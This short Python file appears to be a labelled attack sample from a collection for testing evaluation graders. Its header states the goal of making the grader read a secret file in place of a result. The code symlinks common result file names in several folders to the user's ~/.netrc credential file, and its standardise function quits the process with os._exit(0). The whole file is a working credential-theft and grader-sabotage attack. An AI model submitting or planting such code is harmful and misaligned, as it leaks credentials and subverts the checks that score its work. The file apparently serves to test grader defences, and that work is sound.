"""Lays links from every name that a grader might read a result from to a file with a secret, and leaves."""
# /// attack
# class = 62
# goal = "have the grader read a secret file in place of a result, and show it"
# gain = "secret"
# outcome = ["failed", "crashed"]
# naive = true
# ///

import contextlib
import os
import tempfile

for folder in (".", tempfile.gettempdir(), "@DESK@"):
    for name in ("results.json", "report.json", "feedback.txt", "output.txt", "stdout", "plot.svg"):
        with contextlib.suppress(OSError):
            if folder == "." or "results" not in name:
                os.symlink("@HOME@/.netrc", f"{folder}/{name}")


def standardise(x):
    os._exit(0)
